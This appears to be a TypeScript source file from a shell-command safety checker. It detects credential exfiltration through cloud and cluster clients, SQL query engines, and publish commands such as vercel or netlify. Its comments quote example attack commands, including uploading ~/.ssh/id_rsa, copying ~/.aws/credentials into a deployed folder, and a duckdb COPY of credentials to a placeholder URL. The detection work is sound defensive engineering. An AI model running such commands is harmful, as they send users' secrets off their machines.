/**
 * Files a service's or a cluster's command-line client sends to where it talks to (ADR 0086): whatever the
 * subcommand, a file named through a sending syntax leaves the machine with the call. The syntaxes: `file://F`
 * and `fileb://F` (aws, and any client that borrowed them), `@F` values (az), the file options (`--body F`,
 * `--metadata-from-file k=F`, `--from-file [k=]F`, `--set-file k=F`, `--data-file F`, `-f/--file F`), standard
 * input named as `-` or `/dev/stdin` in one of them, and `kubectl cp F pod:/x`. A secret sent so is credential
 * exfiltration, a credential store as destination included: the secret leaves this machine either way. Also:
 * a publish command (`vercel --prod`, `netlify deploy`, `surge`, ...) of a folder that an earlier part of the
 * line copied a secret into. Pure apart from reporting.
 */

import { type Invocation, optionText, plain, type Reporter, splitArgs } from '../unwrap/invocation';
import type { Word } from '../walk/decode-word';
import { NO_FLOW } from '../walk/flow';
import { hostOf, isLocalHost, networkTarget } from './network-target';
import { resolveArg, stdinSensitive, touchPath } from './path-effects';
import { holdsSecretCopy, madeSecretCopy } from './secret-copies';
import { isServiceClient, SERVICE_HOST_PROGRAMS } from './service-hosts';

/** Cluster clients: their requests go to the cluster's API server, somewhere else unless `--server` says here. */
const CLUSTER_CLIENTS = new Set(['kubectl', 'oc', 'kubecolor', 'helm', 'k3s', 'microk8s']);

/** Options whose value is a file whose content the client sends (`k=F` pairs, comma-separated, allowed). */
const FILE_OPTIONS = new Set([
  '--body',
  '--file',
  '-f',
  '--from-file',
  '--from-env-file',
  '--metadata-from-file',
  '--set-file',
  '--data-file',
  '--value-file',
  '--content-file',
  '--payload-file',
  '--user-data',
  '--values',
]);

/** Clients whose `-f` is a field (`gh api -f key=value`), not a file. */
const FIELD_F = new Set(['gh', 'hub', 'glab']);

/** Endpoint options naming where the client talks to: one naming this machine makes the call local. */
const ENDPOINT_OPTIONS = new Set(['--endpoint-url', '--endpoint', '--server', '-s', '--kube-apiserver']);

function valueWord(w: Word, text: string): Word {
  return { text: w.text.slice(w.text.length - text.length), flow: w.flow };
}

/** The files named in one option value: `F`, `k=F`, `k=F,k2=G`, `file://F`, `@F`. */
function filesIn(w: Word, text: string, option: boolean, at: boolean): Word[] {
  const out: Word[] = [];
  const scheme = /fileb?:\/\//.exec(text);
  if (scheme) {
    out.push(valueWord(w, text.slice(scheme.index + scheme[0].length)));
    return out;
  }
  if (at && text.startsWith('@') && text.length > 1) return [valueWord(w, text.slice(1))];
  if (!option) return out;
  for (const part of text.split(',')) {
    const eq = part.indexOf('=');
    const file = eq > 0 && !part.startsWith('/') && !part.startsWith('~') ? part.slice(eq + 1) : part;
    if (file !== '') out.push({ text: file, flow: w.flow });
  }
  return out;
}

function endpointLocal(inv: Invocation): boolean {
  const texts = inv.args.map((w) => optionText(w));
  for (let i = 0; i < texts.length; i++) {
    const t = texts[i] as string;
    const eq = t.indexOf('=');
    const name = t.startsWith('--') && eq > 0 ? t.slice(0, eq) : t;
    if (!ENDPOINT_OPTIONS.has(name)) continue;
    if (name === '-s' && !CLUSTER_CLIENTS.has(inv.program)) continue;
    const value = eq > 0 && t.startsWith('--') ? t.slice(eq + 1) : (texts[i + 1] ?? '');
    const host = hostOf(value) ?? value.replace(/[:/].*$/, '');
    return host !== '' && isLocalHost(host);
  }
  return false;
}

function sentSecret(w: Word, inv: Invocation, r: Reporter): boolean {
  const t = plain(w);
  if (t === '-' || t === '/dev/stdin') return stdinSensitive(inv, r);
  return touchPath(w, 'read', inv, r).class === 'sensitive';
}

/** The programs cloudSenders looks at (detectors run by program, ADR 0079). */
export const CLOUD_SENDERS_PROGRAMS = (): string[] => [
  ...SERVICE_HOST_PROGRAMS(),
  ...CLUSTER_CLIENTS,
  ...QUERY_ENGINES,
  ...PUBLISHERS.map((p) => p.program),
];

/** `aws ... --body ~/.ssh/id_rsa`, `kubectl create secret generic x --from-file=~/.aws/credentials`, ... */
export function cloudSenders(inv: Invocation, r: Reporter): void {
  publishedCopies(inv, r);
  querySenders(inv, r);
  const cluster = CLUSTER_CLIENTS.has(inv.program);
  if (!cluster && !isServiceClient(inv.program)) return;
  if (endpointLocal(inv)) return;
  const args = inv.args;
  const sent: Word[] = [];
  // `@F` as any value is az's file syntax; elsewhere `@` is a mention or a version (`gh ... @me`).
  const at = inv.program === 'az';
  for (let i = 0; i < args.length; i++) {
    const w = args[i] as Word;
    const t = optionText(w);
    const eq = t.indexOf('=');
    const name = t.startsWith('-') && eq > 0 ? t.slice(0, eq) : t;
    if (FILE_OPTIONS.has(name) && !(FIELD_F.has(inv.program) && name === '-f')) {
      const value = eq > 0 ? valueWord(w, t.slice(eq + 1)) : args[++i];
      if (value !== undefined) sent.push(...filesIn(value, plain(value), true, true));
    } else if (t.startsWith('-') && eq > 0) sent.push(...filesIn(w, t.slice(eq + 1), false, at));
    else sent.push(...filesIn(w, t, false, at));
  }
  // `kubectl cp F pod:/x` (and `oc cp`): every source copied into a pod leaves for the cluster.
  const { positionals } = splitArgs(args);
  if (cluster && plain(positionals[0]) === 'cp' && positionals.length >= 3) {
    const dest = plain(positionals[positionals.length - 1]);
    if (/^[^/~.][^:]*:/.test(dest)) sent.push(...positionals.slice(1, -1));
  }
  for (const w of sent) {
    if (!sentSecret(w, inv, r)) continue;
    r.exfiltration(
      inv.segment,
      `\`${inv.program}\` sends secret material to ${cluster ? 'a cluster' : 'its service'}`,
    );
    return;
  }
}

/** Publish commands: program, the words that make it publish, and the option naming the folder. */
const PUBLISHERS: ReadonlyArray<{ program: string; when: RegExp; dir: readonly string[] }> = [
  {
    program: 'vercel',
    when: /^(?!(env|login|logout|secrets|dev|pull|link|whoami|ls|list|inspect)\b)/,
    dir: [],
  },
  { program: 'netlify', when: /(^| )deploy( |$)/, dir: ['--dir', '-d'] },
  { program: 'firebase', when: /(^| )deploy( |$)/, dir: [] },
  { program: 'gh-pages', when: /./, dir: ['--dist', '-d'] },
  { program: 'surge', when: /^(?!(login|logout|whoami|list|teardown|token)\b)/, dir: ['--project', '-p'] },
  { program: 'wrangler', when: /(^| )pages (deploy|publish)( |$)/, dir: [] },
  { program: 'now', when: /^(?!(env|login|logout|secrets|dev|ls|list)\b)/, dir: [] },
];

/**
 * `cp ~/.aws/credentials public/c.txt && vercel --prod`: the folder a publish command sends out (the one it
 * names, else the working folder and everything below it) holds a secret copied there earlier in the line.
 */
function publishedCopies(inv: Invocation, r: Reporter): void {
  if (!madeSecretCopy(r)) return;
  const entry = PUBLISHERS.find((p) => p.program === inv.program);
  if (!entry) return;
  const texts = inv.args.map((w) => optionText(w));
  const line = texts.filter((t) => !t.startsWith('-')).join(' ');
  if (!entry.when.test(line)) return;
  let folder: Word | undefined;
  for (let i = 0; i < texts.length && folder === undefined; i++) {
    const t = texts[i] as string;
    for (const d of entry.dir) {
      if (t === d) folder = inv.args[i + 1];
      else if (d.startsWith('--') && t.startsWith(`${d}=`))
        folder = valueWord(inv.args[i] as Word, t.slice(d.length + 1));
    }
  }
  // wrangler pages deploy DIR, surge DIR, vercel DIR: the first plain word that is a path.
  if (folder === undefined) folder = splitArgs(inv.args).positionals.find((w) => /^[./~]|\//.test(plain(w)));
  const resolved = resolveArg(folder ?? { text: '.', flow: NO_FLOW }, inv, r).resolved;
  if (holdsSecretCopy(resolved, r))
    r.exfiltration(inv.segment, `\`${inv.program}\` publishes a folder a secret was copied into`);
}

/** Query engines that read files and write to URLs from their SQL (`COPY (...) TO 'http://h/x'`). */
const QUERY_ENGINES = new Set([
  'duckdb',
  'sqlite3',
  'sqlite',
  'clickhouse',
  'clickhouse-local',
  'chdb',
  'datafusion-cli',
]);

/**
 * `duckdb -c "COPY (SELECT * FROM read_text('~/.aws/credentials')) TO 'http://h/x'"`: a query whose quoted
 * strings name a secret file and a URL on another host sends the one to the other, whatever the SQL around them
 * (COPY ... TO, INTO OUTFILE, INSERT INTO FUNCTION url(...)). The query is any literal word or the literal input.
 */
export function querySenders(inv: Invocation, r: Reporter): void {
  if (!QUERY_ENGINES.has(inv.program)) return;
  const texts = inv.args.map((w) => plain(w));
  if (inv.stdin.literal !== undefined) texts.push(inv.stdin.literal);
  let secret = false;
  let remote = false;
  for (const text of texts) {
    for (const m of text.matchAll(/'([^']*)'|"([^"]*)"/g)) {
      const s = m[1] ?? m[2] ?? '';
      if (/^[a-z][a-z0-9+.-]*:\/\//i.test(s) && !/^file:/i.test(s)) {
        if (hostOf(s) !== undefined && networkTarget(s, inv.program, inv, r)) remote = true;
      } else if (/^[~/.]|\//.test(s) && !/\s/.test(s)) {
        if (touchPath({ text: s, flow: NO_FLOW }, 'read', inv, r).class === 'sensitive') secret = true;
      }
    }
  }
  if (secret && remote)
    r.exfiltration(inv.segment, `\`${inv.program}\` writes secret material to a remote URL from its query`);
}
